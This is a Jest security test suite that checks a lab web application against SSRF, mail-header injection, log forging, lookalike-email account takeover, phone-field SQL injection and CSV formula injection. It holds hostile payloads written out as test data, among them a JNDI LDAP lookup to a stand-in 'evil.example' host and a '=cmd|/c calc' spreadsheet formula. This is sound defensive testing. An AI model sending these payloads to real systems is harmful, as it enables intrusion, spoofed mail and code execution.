import { afterAll, describe, expect } from '@jest/globals';
import { attack } from '../../lab/attack.js';
import { closeDatabase, count } from '../../lab/database.js';
import { eventually } from '../../lab/eventually.js';
import { listener } from '../../lab/attacker-server.js';
import { allMails, mailsTo } from '../../lab/mailbox.js';
import { admin, newEmail, signUp } from '../../lab/users.js';
import { killed, logOf } from '../../lab/processes.js';
import { checkOut, newItem, saveItem } from '../../lab/items.js';
import { Visitor } from '../../lab/visitor.js';

afterAll(closeDatabase);

describe('texts', () => {
  attack('make the server call no URL: those in fields are text [T39, API7]', async (random) => {
    const attacker = await listener();
    const url = random.one('address', [
      attacker.origin,
      `${attacker.origin}/x.png`,
      attacker.origin.replace('127.0.0.1', 'localhost'),
      attacker.origin.replace('http:', ''),
      attacker.origin.replace('127.0.0.1', '2130706433'),
      attacker.origin.replace('127.0.0.1', '0x7f.1'),
    ]);
    const member = await signUp();
    const course = await newItem('course');
    await saveItem('course', { image: url, description: `![x](${url}) <img src="${url}">` });
    await saveItem('workshop', { joinUrl: url });
    await checkOut(member, 'course', course.id, { redirectUrl: url, callbackUrl: url, webhookUrl: url });
    await member.post('/api/phonepe/initiate', { redirectUrl: url, callbackUrl: url, amount: 1 });
    await Visitor.client().post('/api/contact', {
      name: 'Asha Rao',
      email: newEmail(),
      message: `Please look at ${url} for me`,
    });
    await Visitor.client().get(
      `/api/auth/google?issuer=${encodeURIComponent(url)}&redirect_uri=${encodeURIComponent(url)}`,
    );
    await Visitor.client().post('/api/auth/google/callback', {
      code: 'x',
      state: 'x',
      iss: url.slice(0, 200),
    });
    await Visitor.client().post('/api/payments/phonepe/webhook', { url, payload: { redirect: url } });
    await attacker.stop();
    expect(attacker.calls).toEqual([]);
  });

  attack('add no recipient and no header to a mail [T40]', async (random) => {
    const victim = newEmail();
    const sender = newEmail();
    const line = random.one('line', ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\\r\\n']);
    const header = random.one('header', [
      `bcc: ${victim}`,
      `to: ${victim}`,
      'list-unsubscribe: <https://evil.example>',
      `x-injected: ${sender}`,
    ]);
    await Visitor.client().post('/api/contact', {
      name: `Asha Rao${line}${header}`,
      email: sender,
      message: `Please help me.${line}${header}`,
    });
    const urls = [
      `${sender}${line}${header}`,
      `"${victim} x"@example.in`,
      `${sender},${victim}`,
      `${victim}>,<${sender}`,
      `"${victim}"@example.in`,
      `=?utf-8?q?${victim}?=@example.in`,
    ];
    for (const email of random.shuffled(urls)) {
      await Visitor.client().post('/api/user/register', {
        name: 'Asha Rao',
        email,
        password: 'Seven quiet herons 7',
      });
      await Visitor.client().post('/api/contact', {
        name: 'Asha Rao',
        email,
        message: 'Please help me, thank you',
      });
    }
    const last = newEmail();
    await Visitor.client().post('/api/contact', {
      name: 'Asha Rao',
      email: last,
      message: 'The last one of them all',
    });
    await eventually('a mail', async () => (await mailsTo(last)).length > 0);
    expect(await mailsTo(victim)).toEqual([]);
    for (const mail of await allMails()) expect(mail.to).toHaveLength(1);
  });

  attack('forge no line of a log [T41]', async (random) => {
    const marker = random.text('mark', 16);
    const line = random.one('line', ['\n', '\r\n', '\u2028', '\u0085', '%0a', '\u001b[2K\u001b[1A']);
    const forged = `${marker}${line}{"level":"info","msg":"forged ${marker}"}\${jndi:ldap://evil.example/${marker}}`;
    await Visitor.client().get(`/api/course/${encodeURIComponent(forged)}`, {
      'x-request-id': marker.repeat(20),
      'user-agent': `agent ${marker}`,
    });
    await Visitor.client().post('/api/user/login', { email: `${forged}@example.in`, password: forged });
    await Visitor.client().post('/api/registry/reports', { reports: [{ message: forged }] });
    // A page that is sent unrendered is logged in a warning.
    const back = killed('ssr');
    await Visitor.client().get(`/course?search=${encodeURIComponent(forged)}`, { accept: 'text/html' });
    await back;
    const logged = ['bff', 'auth', 'catalog', 'payment'].flatMap((name) =>
      logOf(name)
        .split('\n')
        .filter((one) => one.includes(marker)),
    );
    // Forging needs a log line.
    expect(logged).not.toEqual([]);
    for (const text of logged) {
      expect(() => JSON.parse(text)).not.toThrow();
      expect(JSON.parse(text)).not.toMatchObject({ msg: `forged ${marker}` });
      expect(text).not.toContain('\u001b');
    }
  });

  attack('lead to one account if they only look alike, and never to another user’s [T42]', async (random) => {
    const local = `jose${random.text('name', 8)}`;
    const email = `${local}@example.in`;
    await signUp(Visitor.client(), email);
    const spelling = random.one('spelling', [
      email.toUpperCase(),
      email.replace('jose', 'JOSE'),
      ` ${email}`,
      `${local}@EXAMPLE.IN`,
    ]);
    await Visitor.client().post('/api/user/register', {
      name: 'Somebody Else',
      email: spelling,
      password: 'Seven quiet herons 7',
    });
    expect(await count('auth', 'users', 'LOWER(TRIM(email)) = ?', [email])).toBe(1);
    const alike = random.one('alike', [
      email.replace('jose', 'josé'),
      email.replace('jose', 'jоse'),
      email.replace('i', 'ı'),
      `${email}\u200b`,
    ]);
    expect(
      (await Visitor.client().post('/api/user/login', { email: alike, password: 'Seven quiet herons 7' }))
        .status,
    ).toBeGreaterThanOrEqual(400);
  });

  attack('are one phone number in every notation, or an error at the field [T43]', async (random) => {
    const member = await signUp();
    const digits = `9${random.text('digits', 9, '0123456789')}`;
    const good = random.one('good', [
      digits,
      `+91${digits}`,
      `0${digits}`,
      `+91 ${digits.slice(0, 5)} ${digits.slice(5)}`,
      `91-${digits}`,
      `(+91) ${digits}`,
    ]);
    const bad = random.one('bad', [
      `${digits}123`,
      '12345',
      '+1 212 555 0100',
      '5555555555',
      'abcdefghij',
      "9' OR '1'='1",
      '०१२३४५६७८९',
    ]);
    const first = await member.put('/api/user/update', { name: 'Asha Rao', phone: good });
    expect([good, first.status]).toEqual([good, 200]);
    expect(first.json()).toMatchObject({ user: { phone: digits } });
    expect([bad, (await member.put('/api/user/update', { name: 'Asha Rao', phone: bad })).status]).toEqual([
      bad,
      400,
    ]);
    expect((await member.get('/api/user/me')).json()).toMatchObject({ user: { phone: digits } });
  });

  attack('are no formula in an exported table, whatever separates its cells [T45, H11]', async (random) => {
    const separator = random.one('separator', [',', ';', '\t', '|']);
    const formula = random.one('formula', [
      '=HYPERLINK("https://evil.example")',
      '+1+1',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '=cmd|/c calc',
    ]);
    const marker = random.text('mark', 10);
    const text = random.one('where', [`${marker}${separator}${formula}`, `${formula} ${marker}`]);
    const adminUser = await admin();
    const member = await signUp();
    const renamed = await member.put('/api/user/update', { name: text });
    expect([200, 400]).toContain(renamed.status);
    const course = await newItem('course', { title: text.replaceAll('\t', ' ') });
    const given = await adminUser.post('/api/admin/enrollments', {
      userId: member.user.id,
      itemType: 'course',
      itemId: course.id,
      reason: text,
    });
    expect(given.status).toBe(200);
    const lines = await eventually('all entries', async () => {
      const file = (await adminUser.get('/api/admin/audit/export')).text;
      const found = file.split('\n').filter((line) => line.includes(marker));
      return found.length > (renamed.status === 200 ? 1 : 0) && found;
    });
    for (const line of lines) noFormulaIn(line, marker);
  });
});

function noFormulaIn(line: string, marker: string): void {
  const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)];
  expect(cells.some(([cell]) => cell.includes(marker))).toBe(true);
  for (const [, quoted, bare] of cells) {
    const cell = quoted ?? bare ?? '';
    expect([cell, /^\s*[=+@-]/.test(cell)]).toEqual([cell, false]);
    expect([cell, quoted === undefined && /[;|\t']/.test(cell)]).toEqual([cell, false]);
  }
  // Programs in other locales use other separators and ignore the quotation marks.
  for (const other of [';', '\t', '|'])
    for (const cell of line.split(other)) expect([cell, /^[\s"]*[=+@-]/.test(cell)]).toEqual([cell, false]);
}
